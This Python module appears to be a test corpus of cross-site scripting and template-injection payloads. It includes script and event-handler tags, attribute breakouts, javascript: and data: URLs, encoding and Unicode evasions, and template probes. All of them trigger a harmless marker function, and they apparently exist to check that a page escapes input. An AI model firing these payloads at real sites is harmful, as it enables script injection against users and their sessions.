"""Texts that would run a script, open an element or leave an attribute wherever a page forgot that text is text.

Each calls `zqax`, or marks what it opens with `data-zqax`; written by us, one family for each way into a page.
"""

RUN = "zqax(1)"
MARK = "data-zqax"

TAGS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT {MARK}>{RUN}</SCRIPT>",
    f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script {MARK} src=//example.org/x></script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<script type=module>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script xlink:href=data:,{RUN} /></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<style {MARK}>@import 'javascript:{RUN}';</style>",
    f"<link {MARK} rel=stylesheet href=//example.org/x>",
    f"<link {MARK} rel=import href=data:text/html,x>",
    f"<base {MARK} href=//example.org/>",
    f"<meta {MARK} http-equiv=refresh content=0;url=//example.org/>",
    f"<iframe {MARK} src=javascript:{RUN}></iframe>",
    f"<iframe {MARK} srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object {MARK} data=javascript:{RUN}></object>",
    f"<embed {MARK} src=javascript:{RUN}>",
    f"<form {MARK} action=//example.org/><button>x</button></form>",
    f"<b {MARK}>x</b>",
    f"<zqax {MARK}>",
    f"<template {MARK}><script>{RUN}</script></template>",
    f"<dialog {MARK} open>x</dialog>",
    f"<plaintext {MARK}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
    f"<marquee {MARK}>x</marquee>",
)
EVENTS = tuple(
    f"<{tag} {MARK} {more}{event}={RUN}>"
    for tag, more, event in (
        *(("img", "src=x ", "onerror"), ("img", "src=data:, ", "onerror"), ("image", "src=x ", "onerror")),
        *(("svg", "", "onload"), ("svg/", "", "onload"), ("body", "", "onload"), ("body", "", "onpageshow")),
        *(("video", "src=x ", "onerror"), ("video", "poster=x ", "onloadstart"), ("audio", "src=x ", "onerror")),
        *(
            ("input", "autofocus ", "onfocus"),
            ("select", "autofocus ", "onfocus"),
            ("textarea", "autofocus ", "onfocus"),
        ),
        *(
            ("button", "autofocus ", "onfocus"),
            ("a", "id=x tabindex=1 autofocus ", "onfocus"),
            ("keygen", "", "onfocus"),
        ),
        *(("details", "open ", "ontoggle"), ("marquee", "", "onstart"), ("object", "data=x ", "onerror")),
        *(("iframe", "", "onload"), ("frameset", "", "onload"), ("style", "", "onload"), ("link", "rel=x ", "onerror")),
        *(("script", "src=x ", "onerror"), ("source", "src=x ", "onerror"), ("track", "src=x ", "onerror")),
        *(
            ("div", "style=animation-name:x ", "onanimationstart"),
            ("p", "", "onmouseover"),
            ("p", "", "onpointerenter"),
        ),
        *(("animate", "attributeName=x ", "onbegin"), ("set", "attributeName=x ", "onbegin"), ("x", "", "onclick")),
    )
)
OUT_OF_ATTRIBUTES = tuple(
    f"{end}{middle}"
    for end in ('"', "'", "`", "", '">', "'>", "--></textarea>", "</title>", "</option></select>", '"/>', "]]>")
    for middle in (
        f" {MARK} onfocus={RUN} autofocus x=",
        f"<img {MARK} src=x onerror={RUN}>",
        f" onmouseover={RUN} style=position:fixed;inset:0 {MARK} ",
    )
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"\tjavascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A;avascript:{RUN}",
    f"javascript://example.org/%0a{RUN}",
    f"javascript:void({RUN})//https://example.org",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD56cWF4KDEpPC9zY3JpcHQ+",
    f"vbscript:{RUN}",
    f"view-source:javascript:{RUN}",
    f"blob:javascript:{RUN}",
    f"//example.org/{RUN}",
    f'https://example.org/"onclick={RUN}//',
    f"https://example.org/'onclick={RUN}//",
)
IN_SCRIPTS = (
    f"';{RUN}//",
    f'";{RUN}//',
    f"\\';{RUN}//",
    f'\\";{RUN}//',
    f"`;{RUN}//",
    f"${{{RUN}}}",
    f"'-{RUN}-'",
    f'"-{RUN}-"',
    f"'+{RUN}+'",
    f"}}}};{RUN}//",
    f"\u2028{RUN}//",
    f"\u2029{RUN}//",
    f"*/{RUN}/*",
    f"--></script><script>{RUN}</script>",
    f"<!--<script>{RUN}</script>",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f'{{"a":"</script><script>{RUN}</script>"}}',
)
ENCODED = (
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&amp;lt;script&amp;gt;{RUN}",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"%253Cscript%253E{RUN}%253C/script%253E",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\u2039script\u203a{RUN}\u2039/script\u203a",
    f"<\u0130mg src=x onerror={RUN}>",
    f"<\ufeffscript>{RUN}</script>",
    f"<s\u200bcript>{RUN}</script>",
    f"<img {MARK} src=x on\u200derror={RUN}>",
    f"\u202e<script>{RUN}</script>",
    f"<img\x0b{MARK}\x0bsrc=x\x0bonerror={RUN}>",
    f"<img/{MARK}/src=x/onerror={RUN}>",
)
TEMPLATES = (
    f"{{{{{RUN}}}}}",
    "{{7*191}}zqax",
    "{{config}}",
    "{% include 'x' %}",
    f"<%= {RUN} %>",
    f"#{{{RUN}}}",
    f"[[{RUN}]]",
    "%(zqax)s %s {0} {zqax.__class__}",
    f"<a {MARK} href='javascript:{RUN}'>x</a>",
    f"[x](javascript:{RUN})",
    f'![x](x"onerror="{RUN})',
    f"<details {MARK}><summary>x</summary></details>",
)
PAYLOADS = (*TAGS, *EVENTS, *OUT_OF_ATTRIBUTES, *ADDRESSES, *IN_SCRIPTS, *ENCODED, *TEMPLATES)
